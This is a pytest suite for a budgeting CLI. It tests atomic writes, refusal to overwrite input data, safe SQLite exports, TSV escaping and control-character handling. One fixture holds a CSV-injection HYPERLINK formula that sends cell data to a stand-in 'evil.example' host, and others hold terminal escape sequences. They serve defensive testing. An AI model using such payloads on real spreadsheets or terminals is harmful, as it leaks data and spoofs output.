@@ -1,0 +1,575 @@
+"""Nothing lost, nothing injected, no internal error (issue 12): the input is never
+overwritten, files are replaced whole or not at all, SQLite exports never adopt stale
+journals or replace another program's database, text never turns into a formula, and odd
+characters or a broken stdout end in one clear line."""
+
+from __future__ import annotations
+
+import csv
+import errno
+import io
+import json
+import os
+import sqlite3
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, Phase, given, settings
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from budgetcli import files
+from budgetcli.errors import OutputError
+from budgetcli.formats.delimited import tsv_escape
+from budgetcli.loader import bundled_data_path
+from tests.conftest import Result, run
+from tests.test_bad_input import GOOD
+
+
+def _data(tmp_path: Path, text: str = GOOD, name: str = "data.yaml") -> Path:
+    path = tmp_path / name
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+def _one_line(result: Result, *words: str) -> None:
+    assert result.exit_code == 1, result.stderr
+    lines = result.stderr.splitlines()
+    assert len(lines) == 1, result.stderr
+    assert lines[0].startswith("budgetcli: ")
+    for word in words:
+        assert word in lines[0]
+    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
+
+
+def _leftovers(directory: Path) -> list[str]:
+    return sorted(p.name for p in directory.iterdir() if p.name.endswith(".tmp"))
+
+
+# --- 1. the input is never overwritten ----------------------------------------------------
+
+
+def _aliases(tmp_path: Path, data: Path) -> dict[str, tuple[list[str], dict[str, str] | None]]:
+    link = tmp_path / "link.yaml"
+    link.symlink_to(data)
+    hard = tmp_path / "hard.yaml"
+    os.link(data, hard)
+    d, s, h = str(data), str(link), str(hard)
+    return {
+        "list -o data": (["list", "--data", d, "-o", d, "-f", "csv"], None),
+        "export onto data": (["export", d, "-f", "json", "--data", d], None),
+        "BUDGETCLI_DATA": (["total", "-o", d, "-f", "json"], {"BUDGETCLI_DATA": d}),
+        "output is a symlink to the data": (["total", "--data", d, "-o", s, "-f", "json"], None),
+        "data read through a symlink": (["total", "--data", s, "-o", d, "-f", "json"], None),
+        "export through a symlink": (["export", s, "-f", "json", "--data", d], None),
+        "hard link": (["total", "--data", h, "-o", d, "-f", "json"], None),
+        "export sqlite onto data": (["export", d, "-f", "sqlite", "--data", h], None),
+    }
+
+
+@pytest.mark.parametrize(
+    "case",
+    [
+        "list -o data",
+        "export onto data",
+        "BUDGETCLI_DATA",
+        "output is a symlink to the data",
+        "data read through a symlink",
+        "export through a symlink",
+        "hard link",
+        "export sqlite onto data",
+    ],
+)
+def test_the_data_file_is_never_an_output(tmp_path: Path, case: str) -> None:
+    data = _data(tmp_path)
+    before = data.read_bytes()
+    stamp = data.stat().st_mtime_ns
+    args, env = _aliases(tmp_path, data)[case]
+    result = run(*args, env=env)
+    _one_line(result, "refusing to write", "data file being read")
+    assert result.stdout == ""
+    assert data.read_bytes() == before and data.stat().st_mtime_ns == stamp
+    assert (tmp_path / "link.yaml").is_symlink()
+    assert _leftovers(tmp_path) == []
+
+
+@pytest.mark.parametrize(
+    "args",
+    [["notes", "-f", "json", "-o"], ["total", "-f", "csv", "-o"], ["export", "-f", "json"]],
+    ids=["notes", "total", "export"],
+)
+def test_the_bundled_data_is_refused_before_anything_is_written(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args: list[str]
+) -> None:
+    bundled = bundled_data_path()
+    before = bundled.read_bytes()
+    stamp = bundled.stat().st_mtime_ns
+
+    def no_write(*_: object) -> None:
+        raise AssertionError("a write was attempted")
+
+    monkeypatch.setattr(files, "write_atomic", no_write)
+    monkeypatch.setattr(files, "replace_with", no_write)
+    result = run(*args, str(bundled))
+    _one_line(result, "refusing to write", "data file being read")
+    assert bundled.read_bytes() == before and bundled.stat().st_mtime_ns == stamp
+    # Refused before the data was even read: no parse cache was written.
+    assert not (tmp_path / "cache").exists()
+
+
+# --- 2. whole or not at all ---------------------------------------------------------------
+
+
+def test_the_new_file_is_built_beside_the_target_then_renamed(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    target = tmp_path / "out.csv"
+    target.write_text("old\n", encoding="utf-8")
+    moves: list[tuple[Path, Path, bytes]] = []
+    real_replace = Path.replace
+
+    def replace(self: Path, other: Path) -> Path:
+        moves.append((self, Path(other), self.read_bytes()))
+        return real_replace(self, other)
+
+    monkeypatch.setattr(Path, "replace", replace)
+    files.write_atomic(target, b"new\n")
+    [(temporary, destination, content)] = moves
+    assert destination == target
+    # Same directory (a rename across file systems would not be atomic), hidden, complete.
+    assert temporary.parent == tmp_path
+    assert temporary.name.startswith(".out.csv.") and temporary.name.endswith(".tmp")
+    assert content == b"new\n"
+    assert target.read_bytes() == b"new\n"
+    assert _leftovers(tmp_path) == []
+
+
+@pytest.mark.parametrize("where", ["rename", "fsync"])
+def test_a_failed_write_keeps_the_old_file(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str
+) -> None:
+    target = tmp_path / "totals.csv"
+    target.write_text("the old totals\n", encoding="utf-8")
+
+    def full(*_: object) -> None:
+        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+
+    if where == "rename":
+        monkeypatch.setattr(Path, "replace", full)
+    else:
+        monkeypatch.setattr(os, "fsync", full)
+    result = run("total", "-o", str(target))
+    _one_line(result, "cannot write", str(target), "No space left on device")
+    assert target.read_text(encoding="utf-8") == "the old totals\n"
+    assert _leftovers(tmp_path) == []
+
+
+def test_an_interrupted_export_keeps_the_old_database(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from budgetcli.formats import sqlite
+
+    target = tmp_path / "budget.sqlite"
+    assert run("export", str(target)).exit_code == 0
+    before = target.read_bytes()
+
+    def interrupted(*_: object) -> None:
+        raise KeyboardInterrupt
+
+    monkeypatch.setattr(sqlite, "_fill", interrupted)
+    result = run("export", str(target))
+    assert result.exit_code == 130
+    assert target.read_bytes() == before
+    assert _leftovers(tmp_path) == []
+
+
+def test_a_new_file_gets_the_usual_permissions(tmp_path: Path) -> None:
+    # mkstemp makes 0600 files; the output must be what a plain open() would have made.
+    umask = os.umask(0o022)
+    try:
+        files.write_atomic(tmp_path / "new.csv", b"x\n")
+    finally:
+        os.umask(umask)
+    assert (tmp_path / "new.csv").stat().st_mode & 0o777 == 0o644
+
+
+def test_a_device_is_never_replaced_by_a_file() -> None:
+    # Written in place (it cannot be renamed over); a database cannot be written to it.
+    files.write_atomic(Path("/dev/null"), b"x")
+    with pytest.raises(OutputError, match="not a regular file"):
+        files.replace_with(Path("/dev/null"), lambda temporary: None)
+    assert Path("/dev/null").is_char_device()
+
+
+# --- 3. SQLite over an existing file ------------------------------------------------------
+
+
+def _count(path: Path, table: str = "activities") -> int:
+    connection = sqlite3.connect(path)
+    try:
+        assert connection.execute("PRAGMA integrity_check").fetchone() == ("ok",)
+        return int(connection.execute(f"SELECT count(*) FROM {table}").fetchone()[0])
+    finally:
+        connection.close()
+
+
+def _crash_in_a_transaction(path: Path, mode: str) -> None:
+    """Another program dies mid-transaction (mode DELETE: a hot -journal) or after
+    committing to its WAL without a checkpoint (mode WAL: a -wal holding the commit)."""
+    import subprocess
+    import sys
+
+    end = "c.execute('COMMIT')" if mode == "WAL" else "pass"
+    script = (
+        "import os, sqlite3, sys\n"
+        "c = sqlite3.connect(sys.argv[1], isolation_level=None)\n"
+        f"c.execute('PRAGMA journal_mode={mode}')\n"
+        "c.execute('PRAGMA cache_size=1')\n"
+        "c.execute('BEGIN')\n"
+        "c.execute(\"UPDATE activities SET name = 'CHANGED'\")\n"
+        "c.execute(\"INSERT INTO metadata VALUES ('stale', 'x')\")\n"
+        f"{end}\n"
+        "os._exit(0)\n"
+    )
+    subprocess.run([sys.executable, "-c", script, str(path)], check=True)
+
+
+@pytest.mark.parametrize(("mode", "sidecar"), [("DELETE", "-journal"), ("WAL", "-wal")])
+@pytest.mark.parametrize("force", [False, True])
+def test_sqlite_export_leaves_no_stale_journal(
+    tmp_path: Path, mode: str, sidecar: str, force: bool
+) -> None:
+    target = tmp_path / "budget.sqlite"
+    assert run("export", str(target)).exit_code == 0
+    _crash_in_a_transaction(target, mode)
+    assert (tmp_path / f"budget.sqlite{sidecar}").exists()
+    result = run("export", str(target), *(["--force"] if force else []))
+    assert result.exit_code == 0, result.stderr
+    assert [p.name for p in tmp_path.iterdir() if p.name.startswith("budget.sqlite")] == [
+        "budget.sqlite"
+    ]
+    # The new database, whole: no page of the old one's journal replayed into it.
+    assert _count(target) == 67
+    connection = sqlite3.connect(target)
+    try:
+        names = {n for (n,) in connection.execute("SELECT name FROM activities")}
+        keys = {k for (k,) in connection.execute("SELECT key FROM metadata")}
+    finally:
+        connection.close()
+    assert "CHANGED" not in names and "stale" not in keys
+
+
+def test_sqlite_export_refuses_another_programs_database(tmp_path: Path) -> None:
+    target = tmp_path / "app.db"
+    connection = sqlite3.connect(target)
+    connection.execute("CREATE TABLE customers (id INTEGER)")
+    connection.execute("INSERT INTO customers VALUES (1)")
+    connection.commit()
+    connection.close()
+    before = target.read_bytes()
+    result = run("export", str(target))
+    _one_line(result, "refusing to replace", "customers", "--force")
+    assert target.read_bytes() == before
+    forced = run("export", str(target), "--force")
+    assert forced.exit_code == 0, forced.stderr
+    assert _count(target) == 67
+
+
+def test_sqlite_export_replaces_its_own_database_and_empty_files(tmp_path: Path) -> None:
+    target = tmp_path / "budget.sqlite"
+    assert run("export", str(target)).exit_code == 0
+    smaller = _data(tmp_path)
+    assert run("export", str(target), "--data", str(smaller)).exit_code == 0
+    assert _count(target) == 2
+    empty = tmp_path / "empty.db"
+    empty.touch()
+    assert run("export", str(empty)).exit_code == 0
+    assert _count(empty) == 67
+
+
+def test_sqlite_export_refuses_a_file_that_is_not_sqlite(tmp_path: Path) -> None:
+    target = tmp_path / "notes.db"
+    target.write_text("someone's notes\n", encoding="utf-8")
+    result = run("export", str(target))
+    _one_line(result, "refusing to replace", "not a SQLite database", "--force")
+    assert target.read_text(encoding="utf-8") == "someone's notes\n"
+    assert run("export", str(target), "--force").exit_code == 0
+    assert _count(target) == 67
+
+
+def test_sqlite_export_refuses_a_damaged_database(tmp_path: Path) -> None:
+    target = tmp_path / "damaged.sqlite"
+    target.write_bytes(b"SQLite format 3\x00" + b"\xff" * 200)
+    before = target.read_bytes()
+    result = run("export", str(target))
+    _one_line(result, "refusing to replace", "--force")
+    assert target.read_bytes() == before
+
+
+# --- 4. CSV injection ---------------------------------------------------------------------
+
+FORMULAS = {
+    "a": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+    "b": "+45 12 34 56 78",
+    "c": "-2+3",
+    "d": "@SUM(A1:A9)",
+}
+
+
+def _formula_data(tmp_path: Path) -> Path:
+    activities = "\n".join(
+        f"  - id: {key}\n    department: BIF\n    name: {json.dumps(name)}\n"
+        f"    funding: {json.dumps(name)}\n    budget: {{2018: 1.5, 2019: 0.5}}"
+        for key, name in FORMULAS.items()
+    )
+    head = GOOD.split("activities:")[0]
+    return _data(tmp_path, f"{head}activities:\n{activities}\n", "formulas.yaml")
+
+
+def test_danish_csv_defuses_formulas_and_keeps_negative_numbers(tmp_path: Path) -> None:
+    data = str(_formula_data(tmp_path))
+    listed = run("list", "--data", data, "-f", "csv", "--lang", "da")
+    rows = list(csv.DictReader(io.StringIO(listed.stdout.lstrip("\ufeff")), delimiter=";"))
+    assert {r["id"]: r["name"] for r in rows} == {k: "'" + v for k, v in FORMULAS.items()}
+    funding = run("total", "--by", "funding", "--data", data, "-f", "csv", "--lang", "da")
+    rows = list(csv.DictReader(io.StringIO(funding.stdout.lstrip("\ufeff")), delimiter=";"))
+    assert {"'" + v for v in FORMULAS.values()} <= {r["label"] for r in rows}
+    # A change is a number, negative or not: never prefixed, or Excel could not add it.
+    compared = run("compare", "2018", "2019", "--by", "activity", "--data", data, "-f", "csv")
+    danish = run(
+        "compare", "2018", "2019", "--by", "activity", "--data", data, "-f", "csv", "--lang", "da"
+    )
+    plain = {r["key"]: r for r in csv.DictReader(io.StringIO(compared.stdout))}
+    danish_rows = csv.DictReader(io.StringIO(danish.stdout.lstrip("\ufeff")), delimiter=";")
+    da = {r["key"]: r for r in danish_rows}
+    assert plain["a"]["change"] == "-1.0" and da["a"]["change"] == "-1,0"
+    assert da["a"]["label"] == "'" + FORMULAS["a"]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "tsv"])
+def test_plain_csv_and_tsv_keep_the_data_verbatim(tmp_path: Path, fmt: str) -> None:
+    data = str(_formula_data(tmp_path))
+    result = run("list", "--data", data, "-f", fmt)
+    delimiter = "," if fmt == "csv" else "\t"
+    rows = list(csv.DictReader(io.StringIO(result.stdout), delimiter=delimiter))
+    assert {r["id"]: r["name"] for r in rows} == FORMULAS
+    exported = tmp_path / "cells.csv"
+    assert run("export", str(exported), "--data", data).exit_code == 0
+    cells = csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8")))
+    assert {r["activity_id"]: r["name"] for r in cells} == FORMULAS
+
+
+def _formula_cells(path: Path) -> tuple[int, set[str]]:
+    book = load_workbook(path)
+    formulas = 0
+    texts: set[str] = set()
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                formulas += cell.data_type == "f"
+                if isinstance(cell.value, str):
+                    texts.add(cell.value)
+    return formulas, texts
+
+
+@pytest.mark.parametrize(
+    "args",
+    [["list"], ["total", "--by", "activity"], ["total", "--by", "funding"], ["export"]],
+    ids=["list", "total-by-activity", "total-by-funding", "export"],
+)
+def test_xlsx_never_holds_a_formula(tmp_path: Path, args: list[str]) -> None:
+    data = str(_formula_data(tmp_path))
+    out = tmp_path / "out.xlsx"
+    target = [str(out)] if args[0] == "export" else ["-o", str(out)]
+    assert run(*args[:1], *target, *args[1:], "--data", data).exit_code == 0
+    formulas, texts = _formula_cells(out)
+    assert formulas == 0
+    # The words are all there, as text, exactly.
+    assert set(FORMULAS.values()) <= texts
+
+
+# --- 6. TSV escapes -----------------------------------------------------------------------
+
+
+def test_tsv_escapes_tabs_newlines_and_backslashes(tmp_path: Path) -> None:
+    name = "a\tb\nc\\n d"  # a carriage return never gets this far: validate refuses it
+    text = GOOD.replace("name: A\n", f"name: {json.dumps(name)}\n")
+    result = run("list", "--data", str(_data(tmp_path, text)), "-f", "tsv")
+    assert result.exit_code == 0
+    lines = result.stdout.split("\n")
+    assert len(lines) == 4  # header, two rows, the final newline
+    row = lines[1].split("\t")
+    assert row[3] == "a\\tb\\nc\\\\n d"
+    assert tsv_escape("a\rb") == "a\\rb"
+    assert len(row) == len(lines[0].split("\t"))
+    # The convention is reversible: unescaping gives the name back.
+    assert tsv_escape(name) == row[3]
+    assert _unescape(row[3]) == name
+
+
+def _unescape(text: str) -> str:
+    codes = {"t": "\t", "n": "\n", "r": "\r", "\\": "\\"}
+    out, i = [], 0
+    while i < len(text):
+        if text[i] == "\\":
+            out.append(codes[text[i + 1]])
+            i += 2
+        else:
+            out.append(text[i])
+            i += 1
+    return "".join(out)
+
+
+# --- 5. any text at all: no crash, no broken file -----------------------------------------
+
+REPORT_COMMANDS = (
+    ("list",),
+    ("show", "a"),
+    ("total", "--by", "section"),
+    ("total", "--by", "funding", "--year", "2018"),
+    ("compare", "2018", "2019", "--by", "activity"),
+    ("expiring",),
+    ("notes",),
+    ("chart", "--by", "section"),
+)
+STREAM_FORMATS = ("table", "json", "csv", "tsv", "markdown")
+
+
+def _odd_data(texts: dict[str, str]) -> str:
+    """A data file whose every free text is ``texts``' (JSON strings are YAML strings)."""
+
+    def q(key: str) -> str:
+        return json.dumps(texts[key])
+
+    return f"""\
+period: {{first: 2018, last: 2022}}
+unit: mio. kr.
+departments:
+  - {{code: BIF, appendix: 1, name: {q("department")}, sections: [{q("section")}]}}
+notes:
+  - {{id: n1, department: BIF, kind: footnote, marker: "*", text: {q("note")}}}
+activities:
+  - id: a
+    department: BIF
+    section: {q("section")}
+    name: {q("name")}
+    description: {q("description")}
+    target_group: {q("description")}
+    funding: {q("funding")}
+    budget: {{2018: 1.5, 2019: {{text: {q("cell")}}}, 2020: 0}}
+    notes: [n1]
+    remarks: [{q("name")}]
+  - id: b
+    department: BIF
+    name: {q("funding")}
+    funding: {q("funding")}
+    budget: {{2018: 2, 2019: 1}}
+"""
+
+
+def _check_output(path: Path, fmt: str) -> None:
+    if fmt == "svg":
+        from xml.etree import ElementTree
+
+        ElementTree.parse(path)  # well-formed XML, or this raises
+    elif fmt == "xlsx":
+        assert _formula_cells(path)[0] == 0
+    elif fmt == "sqlite":
+        assert _count(path) == 2
+    elif fmt == "json":
+        json.loads(path.read_text(encoding="utf-8"))
+
+
+def _no_internal_error(result: Result) -> None:
+    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
+    assert result.exit_code in (0, 1), result.stderr
+
+
+# Any Unicode but lone surrogates (a UTF-8 file cannot hold them), control characters
+# weighted in: C0, DEL, C1, the line and paragraph separators, a BOM, an escape sequence.
+ODD = st.lists(
+    st.one_of(
+        st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=4),
+        st.sampled_from(["\x00", "\x1b[31m", "\x07", "\x7f", "\x85", "\x9b", "\u2028", "\ufeff"]),
+        st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", "\\", "[b]", '"', "<", "&"]),
+    ),
+    min_size=1,
+    max_size=5,
+).map("".join)
+# Mostly files validation accepts (blank names are rejected, and rightly): the point is
+# what the writers do with the text.
+ODD = ODD.filter(str.strip)
+FIELDS = ("name", "description", "funding", "section", "department", "note", "cell")
+
+
+# Shrinking would rerun some 60 commands per step (minutes): a failure is shown as found.
+ODD_SETTINGS = settings(
+    max_examples=25,
+    deadline=None,
+    phases=[Phase.explicit, Phase.reuse, Phase.generate],
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+
+
+def _every_command(tmp_path: Path, texts: dict[str, str], files: tuple[str, ...]) -> None:
+    data = tmp_path / "odd.yaml"
+    data.write_text(_odd_data(texts), encoding="utf-8")
+    checked = run("validate", str(data))
+    _no_internal_error(checked)
+    if checked.exit_code == 1:
+        # Rejected by validation: every command says so the same way, then stops.
+        result = run("list", "--data", str(data))
+        _no_internal_error(result)
+        assert result.exit_code == 1 and result.stdout == ""
+        return
+    streams = STREAM_FORMATS if "svg" in files else ()
+    for command in REPORT_COMMANDS:
+        for fmt in streams:
+            result = run(*command, "--data", str(data), "-f", fmt)
+            _no_internal_error(result)
+            assert result.exit_code == 0, (command, fmt, result.stderr)
+        for fmt in files:
+            out = tmp_path / f"out.{fmt}"
+            result = run(*command, "--data", str(data), "-o", str(out))
+            assert result.exit_code == 0, (command, fmt, result.stderr)
+            _check_output(out, fmt)
+        if streams:
+            danish = run(*command, "--data", str(data), "-f", "csv", "--lang", "da")
+            assert danish.exit_code == 0, (command, danish.stderr)
+    for fmt in ("json", "csv", "sqlite") if streams else ("xlsx",):
+        out = tmp_path / f"export.{fmt}"
+        result = run("export", str(out), "--data", str(data))
+        assert result.exit_code == 0, (fmt, result.stderr)
+        _check_output(out, fmt)
+
+
+@ODD_SETTINGS
+@given(st.fixed_dictionaries(dict.fromkeys(FIELDS, ODD)))
+def test_any_text_in_every_command_and_format(tmp_path: Path, texts: dict[str, str]) -> None:
+    _every_command(tmp_path, texts, ("svg",))
+
+
+@ODD_SETTINGS
+@given(st.fixed_dictionaries(dict.fromkeys(FIELDS, ODD)))
+def test_any_text_in_xlsx(tmp_path: Path, texts: dict[str, str]) -> None:
+    _every_command(tmp_path, texts, ("xlsx",))
+
+
+# --- nothing reaches the terminal but text ------------------------------------------------
+
+
+def test_messages_and_notes_on_stderr_show_control_characters_as_escapes(
+    tmp_path: Path,
+) -> None:
+    texts = dict.fromkeys(FIELDS, "X\x1b]0;pwned\x07\x1b[2J\nY")
+    data = tmp_path / "esc.yaml"
+    data.write_text(_odd_data(texts), encoding="utf-8")
+    # validate refuses the file (tests/test_hostile_input.py); its messages name the
+    # characters and carry none of them raw.
+    result = run("list", "--data", str(data), "-f", "csv")
+    assert result.exit_code == 1 and result.stdout == ""
+    assert "U+001B" in result.stderr
+    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
+    missing = run("show", "zz\x1b[2J\x9b1m")
+    assert missing.exit_code == 2 and len(missing.stderr.splitlines()) == 1
+    assert "\x1b" not in missing.stderr and "\x9b" not in missing.stderr
